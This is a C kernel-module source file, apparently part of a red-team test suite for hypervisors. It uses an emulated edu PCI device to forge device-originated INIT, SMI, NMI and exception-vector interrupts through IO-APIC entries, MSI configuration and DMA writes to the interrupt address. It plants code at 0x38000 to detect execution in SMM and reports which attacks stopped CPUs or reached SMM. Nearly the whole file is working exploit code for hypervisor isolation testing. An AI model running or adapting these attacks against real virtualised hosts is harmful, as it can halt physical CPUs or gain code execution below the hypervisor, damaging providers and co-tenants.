// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * Interrupts of a kind that only processors should send, from devices: INIT, SMI, NMI, and vectors
 * that are exceptions (16 to 31; 1 to 15, which APICs refuse) or the hypervisor's own, by an entry
 * of the IO-APIC, by a message of the device, and by a DMA write to the address of messages. The
 * target is the captive CPU of startup.c: a counter that stands still is a CPU that was stopped.
 * Where no code can be planted for SMIs they are sent nevertheless: the CPU must go on.
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/pci.h>
#include <linux/string.h>

#include "redteam/root/attack.h"

#define IOAPIC_BASE 0xfec00000

static u32 ioapic_read(u8 __iomem *ioapic, u8 reg)
{
	writel(reg, ioapic);
	return readl(ioapic + 0x10);
}

static void ioapic_write(u8 __iomem *ioapic, u8 reg, u32 value)
{
	writel(reg, ioapic);
	writel(value, ioapic + 0x10);
}

/* Let the pin of edu's interrupt line carry `mode`. Answers what the entry read back. */
static u32 fire_ioapic(const struct edu *edu, u32 apic_id, u32 mode)
{
	u8 __iomem *ioapic = ioremap(IOAPIC_BASE, PAGE_SIZE);
	u8 entry = 0x10 + 2 * (u8)edu->pci->irq;
	u32 low, high, seen;

	if (!ioapic)
		return 0;
	low = ioapic_read(ioapic, entry);
	high = ioapic_read(ioapic, entry + 1);
	ioapic_write(ioapic, entry + 1, apic_id << 24);
	ioapic_write(ioapic, entry, mode); /* edge, physical, not masked */
	seen = ioapic_read(ioapic, entry);
	edu_interrupt(edu, true);
	msleep(20);
	edu_interrupt(edu, false);
	ioapic_write(ioapic, entry, low | 1 << 16);
	ioapic_write(ioapic, entry + 1, high);
	iounmap(ioapic);
	return seen;
}

/* As a driver sets up MSI, but with another delivery mode in the data. */
static void fire_msi(const struct edu *edu, u32 apic_id, u32 mode)
{
	int cap = pci_find_capability(edu->pci, PCI_CAP_ID_MSI);
	u16 control;

	if (!cap)
		return;
	pci_read_config_word(edu->pci, cap + PCI_MSI_FLAGS, &control);
	pci_write_config_dword(edu->pci, cap + PCI_MSI_ADDRESS_LO, 0xfee00000 | apic_id << 12);
	if (control & PCI_MSI_FLAGS_64BIT) {
		pci_write_config_dword(edu->pci, cap + PCI_MSI_ADDRESS_HI, 0);
		pci_write_config_word(edu->pci, cap + PCI_MSI_DATA_64, mode | ICR_ASSERT);
	} else {
		pci_write_config_word(edu->pci, cap + PCI_MSI_DATA_32, mode | ICR_ASSERT);
	}
	pci_write_config_word(edu->pci, cap + PCI_MSI_FLAGS, control | PCI_MSI_FLAGS_ENABLE);
	edu_interrupt(edu, true);
	msleep(20);
	edu_interrupt(edu, false);
	pci_write_config_word(edu->pci, cap + PCI_MSI_FLAGS, control);
}

/* No capability is needed to write to 0xfee00000: DMA does. */
static void fire_dma(const struct edu *edu, u32 apic_id, u32 mode)
{
	u32 *page = (void *)get_zeroed_page(GFP_KERNEL);

	if (!page)
		return;
	*page = mode | ICR_ASSERT;
	edu_dma(edu, virt_to_phys(page), 4, true);
	edu_dma(edu, 0xfee00000 | apic_id << 12, 4, false);
	free_page((unsigned long)page);
}

enum { BY_IOAPIC = 0x10000, BY_MSI = 0x20000, BY_DMA = 0x40000, VECTORS = 0x80000, MODE = 0xffff };

#define FROM_TO(first, last) (VECTORS | (last) << 8 | (first))

/* Returns what an entry of the IO-APIC read back. */
static u32 fire_one(const struct edu *edu, u32 apic_id, u32 how, u32 mode)
{
	u32 seen = 0;

	if (how & BY_IOAPIC)
		seen = fire_ioapic(edu, apic_id, mode);
	else if (how & BY_MSI)
		fire_msi(edu, apic_id, mode);
	else
		fire_dma(edu, apic_id, mode);
	return seen;
}

static u32 fire_all(const struct edu *edu, u32 apic_id, u32 how)
{
	u32 last = (how & MODE) >> 8;
	u32 seen = 0, vector;

	if (!(how & VECTORS))
		return fire_one(edu, apic_id, how, how & MODE);
	for (vector = how & 0xff; vector <= last; vector++)
		seen = fire_one(edu, apic_id, how, vector);
	return seen;
}

static struct outcome fire(const struct edu *edu, u32 how)
{
	struct captive captive;
	struct outcome result = captive_take(&captive);
	u32 seen, nmis, interrupts;
	char what[48];

	if (result.verdict != BLOCKED || strcmp(result.how, "captive") != 0)
		return result;
	seen = fire_all(edu, captive.apic_id, how);
	msleep(20); /* what was sent has arrived */
	nmis = captive_nmi_count(&captive);
	interrupts = captive_interrupt_count(&captive);
	if (how & BY_IOAPIC)
		snprintf(what, sizeof(what), "the interrupt (entry %#x)", seen);
	else
		strscpy(what, "the interrupt", sizeof(what));
	result = captive_judge(&captive, what);
	if (interrupts && result.verdict != SUCCEEDED && !below_hypervisor())
		return outcome(SUCCEEDED, "CPU %u took %u of them", captive.cpu, interrupts);
	if (interrupts && result.verdict == BLOCKED)
		return outcome(BLOCKED, "CPU %u took %u virtual ones and ran on", captive.cpu,
			       interrupts);
	if ((how & MODE) == MODE_NMI && nmis && !below_hypervisor())
		return outcome(SUCCEEDED, "CPU %u took %u NMIs", captive.cpu, nmis);
	if (nmis && result.verdict == BLOCKED)
		return outcome(BLOCKED, "CPU %u took %u virtual NMIs and ran on", captive.cpu,
			       nmis);
	return result;
}

static struct outcome device_interrupt(const struct attack *attack)
{
	struct outcome result;
	struct edu edu;
	struct smm_plant plant;
	u32 smis;

	if (!edu_open(&edu))
		return outcome(SKIPPED, "no edu device: -device edu,dma_mask=0xffffffffffffffff");
	if (!smm_plant(&plant)) {
		edu_close(&edu);
		return outcome(ERROR, "cannot plant code at 0x38000, though it can be written");
	}
	if ((attack->argument & BY_IOAPIC) && edu.pci->irq >= 24)
		result = outcome(SKIPPED, "edu's interrupt %u is not a pin of the first IO-APIC",
				 edu.pci->irq);
	else
		result = fire(&edu, attack->argument);
	edu_close(&edu);
	smis = smm_unplant(&plant);
	return smis ? outcome(SUCCEEDED, "our code ran %u times in SMM", smis) : result;
}

const struct attack ipi_attacks[] = {
	{ "ioapic-init", "physical CPUs stopped by a device", device_interrupt,
	  BY_IOAPIC | MODE_INIT },
	{ "ioapic-smi", "code in SMM, below the hypervisor", device_interrupt,
	  BY_IOAPIC | MODE_SMI },
	{ "ioapic-nmi", "an NMI inside the hypervisor", device_interrupt, BY_IOAPIC | MODE_NMI },
	{ "msi-nmi", "an NMI inside the hypervisor", device_interrupt, BY_MSI | MODE_NMI },
	{ "dma-nmi", "an NMI inside the hypervisor", device_interrupt, BY_DMA | MODE_NMI },
	{ "ioapic-exception-vector", "the hypervisor, by an exception that is none",
	  device_interrupt, BY_IOAPIC | FROM_TO(16, 31) },
	{ "msi-exception-vector", "the hypervisor, by an exception that is none", device_interrupt,
	  BY_MSI | FROM_TO(16, 31) },
	{ "msi-own-vector", "the hypervisor's timer, kicks and errors, forged", device_interrupt,
	  BY_MSI | FROM_TO(0xf0, 0xfe) },
	{ "msi-spurious", "a CPU that takes no interrupt any more", device_interrupt,
	  BY_MSI | FROM_TO(0xff, 0xff) },
	{ "msi-illegal-vector", "the hypervisor, where the APIC takes vectors below 16",
	  device_interrupt, BY_MSI | FROM_TO(1, 15) },
	{}
};

/* Last of all: each may cost a CPU where no interrupt remapping filters messages. */
const struct attack cpu_loss_attacks[] = {
	{ "msi-smi", "code in SMM, below the hypervisor", device_interrupt, BY_MSI | MODE_SMI },
	{ "dma-smi", "code in SMM, below the hypervisor", device_interrupt, BY_DMA | MODE_SMI },
	{ "msi-init", "physical CPUs stopped by a device", device_interrupt, BY_MSI | MODE_INIT },
	{ "dma-init", "physical CPUs stopped by a device", device_interrupt, BY_DMA | MODE_INIT },
	{}
};
